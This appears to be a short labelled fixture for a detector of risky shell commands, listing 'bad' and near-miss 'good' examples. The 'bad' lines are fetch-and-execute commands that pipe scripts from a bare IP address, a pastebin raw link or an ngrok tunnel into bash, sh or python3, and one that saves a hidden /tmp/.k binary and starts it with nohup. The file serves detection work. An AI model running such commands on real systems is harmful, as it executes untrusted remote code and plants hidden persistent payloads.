# bad: a bare address
curl -s http://203.0.113.7/x.sh | bash
#                                 ^^^^
# bad: a bare address without a path
curl 203.0.113.7:8000 | sh
# bad: a paste
bash <(curl -s https://pastebin.com/raw/abcd)
# bad: saved as a hidden file and started
wget -q http://203.0.113.7/k -O /tmp/.k; chmod 755 /tmp/.k; nohup /tmp/.k &
# bad: the name of a tunnel
wget -qO- https://abcd.ngrok-free.app/p | python3
# good: nearly: a bare address, only read
curl -s http://203.0.113.7/status | jq .
# good: nearly: this machine
curl -s http://127.0.0.1:8000/x.sh | bash
# good: a paste that is saved
curl -so notes.txt https://pastebin.com/raw/abcd
